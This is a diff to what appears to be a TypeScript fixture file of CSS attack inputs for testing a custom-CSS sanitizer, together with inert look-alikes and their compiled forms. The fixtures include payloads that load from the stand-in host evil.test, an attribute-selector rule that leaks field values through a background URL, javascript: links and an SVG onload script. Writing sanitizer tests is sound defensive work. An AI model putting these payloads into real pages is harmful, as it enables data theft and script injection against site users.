@@ -1,6 +1,6 @@
 /**
- * This custom CSS tries to load, run, hide, move, cover or leave the page: the ideas of public lists (OWASP's
- * evasion sheet, HTML5 security cheat sheet, reports on sanitizers of GitHub projects), written for our list.
+ * This custom CSS tries to load, run, hide, move, cover or leave the page. The ideas come from public lists (OWASP's
+ * evasion sheet, the HTML5 security cheat sheet, reports on sanitizers of GitHub projects).
  */
 
 type Attack = [title: string, source: string, line?: number]
@@ -30,7 +30,7 @@ const load: Attack[] = [
   ['a cross-fade', 'h1{background:-webkit-cross-fade(url(//evil.test/a.png),url(b.png),50%)}'],
   ['a picture of another element', 'h1{background:-moz-element(#root)}'],
   ['a paint worklet', 'h1{background:paint(a)}'],
-  ['a picture behind a variable', 'h1{color:var(--a,url(//evil.test/a.png))}'],
+  ['a picture as the default of a variable', 'h1{color:var(--a,url(//evil.test/a.png))}'],
   ['a picture in a custom property', 'h1{--a:url(//evil.test/a.png)}'],
   ['a picture in a gradient', 'h1{background:linear-gradient(#fff,url(//evil.test/a.png))}'],
   ['a picture as a data address', 'h1{background:url(data:image/svg+xml,<svg onload=alert(1)>)}'],
@@ -40,8 +40,8 @@ const load: Attack[] = [
   ['a link of Opera', "a{-o-link:'javascript:alert(1)';-o-link-source:current}"],
   ['an attribute as an address', 'a{background:attr(href url)}'],
   ['an unclosed address', 'h1{background:url(//evil.test/a.png'],
-  ['the letters of a field', 'input[value^=a]{background:url(//evil.test/a)}'],
-  ['the state of a field', 'main:has(input:checked){font-weight:bold}'],
+  ['a condition on the letters of a field', 'input[value^=a]{background:url(//evil.test/a)}'],
+  ['a condition on the state of a field', 'main:has(input:checked){font-weight:bold}'],
 ]
 
 const run: Attack[] = [
@@ -63,18 +63,18 @@ const leave: Attack[] = [
   ['the document', 'html{font-size:12px}'],
   ['the body', 'body{background:#000;color:#fff}'],
   ['the root', ':root{--primary:red}'],
-  ['everything', '*{font-size:12px}'],
+  ['every element', '*{font-size:12px}'],
   ['the container', '#root{padding:0}'],
   ['a sibling of the page', '.pagina + div{border:0}'],
   ['all siblings of the page', '.pagina ~ section{border:0}'],
   ['the page under an escaped name', '.pag\\69na ~ p{border:0}'],
   ['the page below itself', 'main .pagina{border:0}'],
   ['the page in capitals', '.PAGINA ~ p{border:0}'],
-  ['the second of a list', '.pagina,\nbody{border:0}', 2],
+  ['the second selector of a list', '.pagina,\nbody{border:0}', 2],
   ['the body within a function', ':is(body){border:0}'],
   ['the body behind a condition', ':where(html) body{border:0}'],
-  ['what has the page', 'body:has(.pagina){border:0}'],
-  ['what is not there', ':not(.pagina){border:0}'],
+  ['the element around the page', 'body:has(.pagina){border:0}'],
+  ['every element but the page', ':not(.pagina){border:0}'],
   ['any namespace', '*|body{border:0}'],
   ['the host of a shadow', ':host{border:0}'],
   ['a closing brace too many', 'h1{border:0}}body{border:0}'],
@@ -91,15 +91,15 @@ const leave: Attack[] = [
   ['a page of paper', '@page{margin:0}'],
   ['an at-rule within a rule', 'h1{@media print{border:0}}'],
   ['a query by a custom name', '@media (--a){h1{border:0}}'],
-  ['a query that is none', '@media (min-width:1px) and {h1{border:0}}'],
+  ['a malformed query', '@media (min-width:1px) and {h1{border:0}}'],
   ['a query with braces', '@media screen{{}}body{border:0}'],
-  ['the colour of the system', '@media (prefers-color-scheme:dark){h1{border:0}}'],
-  ['an id that hashes', 'h1#a{border:0}'],
-  ['two parts at once', 'h1.band{border:0}'],
+  ['a query for the colour scheme', '@media (prefers-color-scheme:dark){h1{border:0}}'],
+  ['an element with an id', 'h1#a{border:0}'],
+  ['an element with a class', 'h1.band{border:0}'],
 ]
 
 const declared = (what: string, ...declarations: string[]): Attack[] =>
-  declarations.map((one) => [`${what}: ${one}`, `li {\n  ${one};\n}`, 2])
+  declarations.map((one) => [`CSS that ${what}: ${one}`, `li {\n  ${one};\n}`, 2])
 
 const hide: Attack[] = [
   ...declared('hides', 'display:none', 'visibility:hidden', 'opacity:0', 'content-visibility:hidden'),
@@ -172,31 +172,31 @@ const hide: Attack[] = [
   ),
   ...declared('imitates', 'unicode-bidi:bidi-override', 'quotes:"a" "b"', 'counter-reset:a', '--primary:red'),
   ...declared('overrules', 'font-weight:bold!important', 'font-weight:bold ! ie', 'font-weight:inherit'),
-  ['imitates: text before a price', 'li::before{content:"grátis"}'],
-  ['imitates: text after a price', 'li:after{content:"grátis"}'],
-  ['imitates: the first letter', 'h1::first-letter{font-size:12px}'],
-  ['imitates: a placeholder', 'input::placeholder{font-size:12px}'],
-  ['imitates: text in reverse', 'h1{\n/* \u202e */\nfont-weight:bold}', 2],
-  ['imitates: invisible letters', 'h1{font-\u200bweight:bold}'],
+  ['a text before a price', 'li::before{content:"grátis"}'],
+  ['a text after a price', 'li:after{content:"grátis"}'],
+  ['a style of the first letter', 'h1::first-letter{font-size:12px}'],
+  ['a style of a placeholder', 'input::placeholder{font-size:12px}'],
+  ['a character that reverses the text', 'h1{\n/* \u202e */\nfont-weight:bold}', 2],
+  ['an invisible character in a property', 'h1{font-\u200bweight:bold}'],
 ]
 
 export const attacks: readonly Attack[] = [...load, ...run, ...leave, ...hide]
 
-/** Each of these looks like an attack and does nothing; `css` is its compiled form. */
+/** Each of these texts looks like an attack and does nothing. `css` is its compiled form. */
 export const inert: readonly [title: string, source: string, css: string][] = [
-  ['nothing', '', ''],
+  ['an empty text', '', ''],
   ['spaces', ' \n\t', ''],
   ['a rule without declarations', 'h1{}', ''],
   ['a comment with markup', '/*</style><script>*/h1{font-weight:bold}', '.pagina h1{font-weight:bold}'],
   [
-    'a comment that is kept by others',
+    'a comment that other tools keep',
     '/*! url(//evil.test) */h1{font-weight:bold}',
     '.pagina h1{font-weight:bold}',
   ],
   ['a comment within a value', 'h1{font-weight:/**/bold/*;position:fixed*/}', '.pagina h1{font-weight:bold}'],
   ['a comment within a comment', '/*/**/h1{font-weight:bold}', '.pagina h1{font-weight:bold}'],
   [
-    'a comment over a line',
+    'a comment over several lines',
     '/*\r@import url(//evil.test);\r*/h1{font-weight:bold}',
     '.pagina h1{font-weight:bold}',
   ],
@@ -205,7 +205,7 @@ export const inert: readonly [title: string, source: string, css: string][] = [
   ['an unclosed query', '@media print{h1{font-weight:bold', '@media print{.pagina h1{font-weight:bold}}'],
   ['empty declarations', 'h1{;;font-weight:bold;;;}', '.pagina h1{font-weight:bold}'],
   [
-    'a selector said a thousand times',
+    'a selector repeated 400 times',
     `${'h1,'.repeat(400)}h1{font-weight:bold}`,
     '.pagina h1{font-weight:bold}',
   ],
